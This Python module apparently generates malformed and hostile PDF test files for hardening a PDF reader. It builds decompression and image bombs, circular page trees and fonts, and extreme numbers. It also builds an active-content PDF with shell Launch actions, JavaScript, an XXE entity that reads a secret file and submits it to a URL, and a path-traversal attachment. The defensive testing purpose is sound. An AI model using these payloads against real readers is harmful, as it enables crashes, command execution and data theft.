"""PDFs that break readers, made from nothing: small files that crash, hang, bloat, lie about themselves or want to act.

Most are written byte by byte, as no library makes them. None is larger than a few hundred kilobytes.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Sequence
from pathlib import Path

import pymupdf

A4 = "0 0 595 842"
TEN_METRES = 28346  # points
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
CATALOG, PAGES, PAGE, CONTENTS = 1, 2, 3, 4  # object numbers in `page`; more objects follow from FIRST
FIRST = 5
ROWS = (
    ("Verksamhetens intäkter", "8 210 400", "7 950 000"),
    ("Verksamhetens kostnader", "-8 010 400", "-7 900 000"),
    ("Verksamhetens resultat", "200 000", "50 000"),
    ("Årets resultat", "200 000", "50 000"),
)
FACTS = 2 * len(ROWS)  # of `report`


def report(organisation: str, pages: int = 2) -> pymupdf.Document:
    """A report with one income statement, on its second page."""
    document = pymupdf.open()
    document.new_page().insert_text((72, 72), f"Samordningsförbundet {organisation} Årsredovisning 2024", fontsize=14)
    sheet = document.new_page()
    sheet.insert_text((72, 90), "Resultaträkning", fontsize=14)
    for at, cells in enumerate((("Belopp i kr", "2024", "2023"), *ROWS)):
        for x, text in zip((72, 390, 490), cells, strict=True):
            left = x if x == 72 else x - pymupdf.get_text_length(text, fontsize=10)
            sheet.insert_text((left, 120 + 16 * at), text, fontsize=10)
    for number in range(3, pages + 1):
        document.new_page().insert_text((72, 72), f"Sida {number}. Under 2024 deltog 77 personer.", fontsize=11)
    return document


def saved(document: pymupdf.Document, **how: object) -> bytes:
    data: bytes = document.tobytes(**how)
    return data


def encrypted(organisation: str, password: str) -> bytes:
    """A report that opens with this password; with none, anybody may read but not print or copy it."""
    return saved(
        report(organisation),
        encryption=pymupdf.PDF_ENCRYPT_AES_256,
        owner_pw="the owner's",
        user_pw=password,
        permissions=0,
    )


def image_only(organisation: str) -> bytes:
    """A report of one page that is a picture of its text."""
    shown = report(organisation)[1].get_pixmap(dpi=100, colorspace=pymupdf.csGRAY)
    document = pymupdf.open()
    document.new_page().insert_image(pymupdf.Rect(0, 0, 595, 842), pixmap=shown)
    return saved(document, deflate=True)


# Bytes ----------------------------------------------------------------------------------------------------
def stream(data: bytes, entries: str = "", *, length: int | None = None) -> bytes:
    """A stream object; `entries` go into its dictionary."""
    return (
        b"<<%s/Length %d>>\nstream\n" % (entries.encode(), len(data) if length is None else length)
        + data
        + b"\nendstream"
    )


def flate(data: bytes, times: int = 1, entries: str = "") -> bytes:
    """A stream of `data` that many times over, compressed without ever making it: every piece packs alike."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x78\xda" + piece * times + packer.flush(zlib.Z_FINISH) + b"\0\0\0\0"  # no reader asks for the sum
    return stream(packed, entries + "/Filter/FlateDecode")


def assemble(objects: Sequence[bytes], trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % p for p in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer.encode(),
        start,
    )
    return bytes(out)


def page(
    contents: bytes,
    *more: bytes,
    resources: str = "",
    fonts: str = "",
    box: str = A4,
    entries: str = "",
    catalog: str = "",
) -> bytes:
    """A PDF of one page: its content stream object, further objects from number 5, entries of page and catalog."""
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog.encode(),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (
                f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R"
                f"/Resources<</Font<</F {FONT}{fonts}>>{resources}>>{entries}>>"
            ).encode(),
            contents,
            *more,
        ]
    )


def text(*lines: str, size: float = 12, x: float = 72, y: float = 770) -> bytes:
    """Content of lines of text, top to bottom."""
    body = " T* ".join(
        "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj" for line in lines
    )
    return f"BT /F {size} Tf {size * 1.4} TL {x} {y} Td {body} ET\n".encode("cp1252")


SAID = "Under 2024 deltog 77 personer och kostnaden blev 4 711 kr."


# Cut, empty, mislabelled ------------------------------------------------------------------------------------
def no_pages() -> bytes:
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])


def garbage() -> bytes:
    return b"%PDF-1.7\n" + random.Random(1).randbytes(50_000)


def many_pages(count: int) -> bytes:
    first = 3
    kids = " ".join(f"{first + n} 0 R" for n in range(count))
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{kids}]/Count {count}/MediaBox[{A4}]>>".encode(),
            *[b"<</Type/Page/Parent 2 0 R>>"] * count,
        ]
    )


def lying_count() -> bytes:
    """One page that says it is two thousand million."""
    return page(stream(text(SAID))).replace(b"/Count 1", b"/Count 2000000000")


def page_tree_in_a_circle() -> bytes:
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>",
            b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>",
        ]
    )


# Too large --------------------------------------------------------------------------------------------------
def picture(entries: str, data: bytes, box: str = A4) -> bytes:
    """A page covered by one image."""
    width, height = box.split()[2:]
    image = stream(data, "/Type/XObject/Subtype/Image" + entries)
    return page(
        stream(f"q {width} 0 0 {height} 0 0 cm /I Do Q".encode()), image, resources="/XObject<</I 5 0 R>>", box=box
    )


def picture_bomb_flate(side: int, bits: int = 1) -> bytes:
    """A black picture of side x side pixels; packed twice, so it is tiny."""
    row = bytes(side * bits // 8)
    image = flate(
        row * 100,
        side // 100,
        f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/ColorSpace/DeviceGray/BitsPerComponent {bits}",
    )
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), image, resources="/XObject<</I 5 0 R>>")


def picture_bomb_fax(side: int) -> bytes:
    """A white picture as faxes send it: one bit a row, `as above`."""
    return picture(
        f"/Width {side}/Height {side}/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode"
        f"/DecodeParms<</K -1/Columns {side}/Rows {side}>>",
        b"\xff" * (side // 8 + 1),
    )


def picture_bomb_jpeg() -> bytes:
    """A JPEG of a few pixels whose header says 65,000 x 65,000."""
    pixels = pymupdf.Pixmap(pymupdf.csGRAY, pymupdf.IRect(0, 0, 64, 64))
    pixels.clear_with(128)
    data = bytearray(pixels.tobytes("jpeg"))
    frame = next(at for mark in (b"\xff\xc0", b"\xff\xc1", b"\xff\xc2") if (at := data.find(mark)) > 0)
    data[frame + 5 : frame + 9] = (65_000).to_bytes(2, "big") * 2
    return picture("/Width 65000/Height 65000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode", bytes(data))


def content_bomb(operators: bytes, megabytes: int) -> bytes:
    """A content stream that unpacks to that many megabytes of these operators."""
    chunk = operators * (1_000_000 // len(operators))
    return page(flate(chunk, megabytes))


def wide(scanned: bool, height: int = 842) -> bytes:
    """A page ten metres wide, with text or with a picture."""
    box = f"0 0 {TEN_METRES} {height}"
    if not scanned:
        return page(stream(text("Resultat", *(f"{n} 000 kr" for n in range(1, 30)), SAID)), box=box)
    row = bytes([255] * 20 + [0] * 20) * 20
    return picture(
        "/Width 800/Height 400/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
        zlib.compress(row * 400),
        box,
    )


def words(count: int) -> bytes:
    """A page of that many tiny words, on one heap."""
    place = random.Random(2).randbytes(2 * count)
    lines = [f"1 0 0 1 {60 + 2 * place[n]} {60 + 2.7 * place[-n]:.1f} Tm ({n % 97}) Tj" for n in range(count)]
    body = ("BT /F 1 Tf\n" + "\n".join(lines) + "\nET").encode()
    return page(stream(zlib.compress(body, 1), "/Filter/FlateDecode"))


# Circles and depths -----------------------------------------------------------------------------------------
def nested_forms(depth: int) -> bytes:
    """Forms that hold each other, the last with text."""
    forms = [
        stream(
            f"/X{n + 1} Do".encode(),
            f"/Type/XObject/Subtype/Form/BBox[{A4}]/Resources<</XObject<</X{n + 1} {FIRST + n + 1} 0 R>>>>",
        )
        for n in range(depth)
    ]
    last = stream(text(SAID), f"/Type/XObject/Subtype/Form/BBox[{A4}]/Resources<</Font<</F {FONT}>>>>")
    return page(stream(b"/X0 Do"), *forms, last, resources=f"/XObject<</X0 {FIRST} 0 R>>")


def form_in_itself() -> bytes:
    form = stream(
        b"/X Do " + text("i sig"),
        f"/Type/XObject/Subtype/Form/BBox[{A4}]/Resources<</XObject<</X 5 0 R>>/Font<</F {FONT}>>>>",
    )
    return page(stream(text(SAID) + b"/X Do"), form, resources="/XObject<</X 5 0 R>>")


def doubling_forms(depth: int) -> bytes:
    """Each form draws the next one twice: 2**depth drawings out of a few kilobytes."""
    forms = [
        stream(b"/X Do /X Do", f"/Type/XObject/Subtype/Form/BBox[{A4}]/Resources<</XObject<</X {FIRST + n + 1} 0 R>>>>")
        for n in range(depth)
    ]
    last = stream(text("1"), f"/Type/XObject/Subtype/Form/BBox[{A4}]/Resources<</Font<</F {FONT}>>>>")
    return page(stream(b"/X Do"), *forms, last, resources=f"/XObject<</X {FIRST} 0 R>>")


def nested_arrays(depth: int) -> bytes:
    """An object of arrays in arrays."""
    return page(stream(text(SAID)), b"[" * depth + b"]" * depth, catalog="/Names 5 0 R")


def cyclic_fonts() -> bytes:
    """A glyph drawn with its own font, a font that descends from itself, a code map that uses itself."""
    glyphs = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]"
        b"/CharProcs<</a 8 0 R>>/Encoding<</Differences[97/a]>>/Resources<</Font<</T 5 0 R>>>>>>"
    )
    itself = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>"
    code_map = stream(b"/CIDInit /ProcSet findresource begin", "/Type/CMap/CMapName/Me/UseCMap 7 0 R")
    proc = stream(b"1000 0 d0 BT /T 1 Tf (a) Tj ET")
    reference = b"9 0 R"  # object 9 is a reference to itself
    contents = text(SAID) + b"BT /T 9 Tf 72 600 Td (aaa) Tj /U 9 Tf (b) Tj /V 9 Tf (c) Tj ET"
    return page(stream(contents), glyphs, itself, code_map, proc, reference, fonts="/T 5 0 R/U 6 0 R/V 9 0 R")


def broken_numbers() -> bytes:
    """Text at places that are no numbers, or as far away as numbers go, on a page of the usual size."""
    places = ("nan nan", "1e400 -1e400", "99999999999999999999 99999999999999999999", "inf 3", "-2147483649 1", ". -")
    odd = "".join(
        f"BT /F 12 Tf 1 0 0 1 {p} Tm (77 kr) Tj ET\nBT /F {p} Tf 1 0 0 1 9 9 Tm (78 kr) Tj ET\n" for p in places
    )
    matrices = (
        "q 0 0 0 0 0 0 cm BT /F 12 Tf (79 kr) Tj ET Q q 1e38 0 0 1e38 0 0 cm BT /F 1e38 Tf 9 9 Td (80 kr) Tj ET Q\n"
    )
    return page(stream(odd.encode() + matrices.encode() + text(SAID)))


def broken_box(box: str) -> bytes:
    return page(stream(text(SAID)), box=box)


def endless_xref() -> bytes:
    """A table of references whose predecessor is itself."""
    data = page(stream(text(SAID)))
    start = data.rindex(b"startxref\n") + 10
    place = data[start : data.index(b"\n", start)]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev " + place)


# What wants to act ------------------------------------------------------------------------------------------
def active(url: str, marker: Path, secret: Path) -> bytes:
    """Scripts, launches, links, forms and attachments that would touch `marker`, read `secret` or ask `url`."""
    script = (
        f'app.launchURL("{url}/js"); this.submitForm("{url}/form"); this.exportDataObject({{cName:"x",nLaunch:2}});'
    )
    launch = (
        f"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c 'touch {marker}')>>/Win<</F(cmd.exe)/P(/c echo >{marker})>>>>"
    )
    actions = [
        f"<</S/JavaScript/JS({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})>>",
        launch,
        f"<</S/URI/URI({url}/uri)>>",
        f"<</S/SubmitForm/F<</FS/URL/F({url}/submit)>>/Flags 4>>",
        f"<</S/ImportData/F({secret})>>",
        f"<</S/GoToR/F<</FS/URL/F({url}/remote.pdf)>>/D[0/Fit]>>",
    ]
    first = FIRST + 8
    numbers = [f"{first + n} 0 R" for n in range(len(actions))]
    chain = [a[:-2] + f"/Next {n}>>" for a, n in zip(actions, numbers[1:], strict=False)] + [actions[-1]]
    links = "".join(f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A {n}/AA<</PO {n}/PV {n}>>>>" for n in numbers)
    media = "<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(x) 8 0 R]>>>>>>"
    widget = "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[9 9 99 99]/AA<</C 13 0 R/F 13 0 R/K 13 0 R/V 13 0 R>>>>"
    form = (
        f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE a [<!ENTITY e SYSTEM "file://{secret}">]>'
        f'<template><event activity="ready"><submit target="{url}/xfa"/></event><text>&e;</text></template></xdp:xdp>'
    )
    return page(
        stream(text("Resultat", SAID) + b"/E Do"),
        b"<</Fields[6 0 R]/XFA[(template) 7 0 R]/CO[6 0 R]>>",
        widget.encode(),
        stream(form.encode()),
        f"<</Type/Filespec/F(../../../../../../{marker})/UF({marker})/EF<</F 9 0 R>>>>".encode(),
        stream(b"#!/bin/sh\necho evil", "/Type/EmbeddedFile"),
        b"<</Names[(x) 8 0 R]>>",
        stream(b"", f"/Type/XObject/Subtype/Form/BBox[{A4}]/F({secret})"),  # a stream that stands in another file
        stream(b"", f"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/F<</FS/URL/F({url}/image)>>"),
        *[a.encode() for a in chain],
        resources="/XObject<</E 11 0 R/I 12 0 R>>",
        entries=f"/Annots[{links}{media}6 0 R]/AA<</O 13 0 R/C 13 0 R>>",
        catalog="/OpenAction 13 0 R/AA<</WC 13 0 R/WS 13 0 R>>/AcroForm 5 0 R/Names<</JavaScript<</Names[(a) 13 0 R]>>/EmbeddedFiles 10 0 R>>",
    )
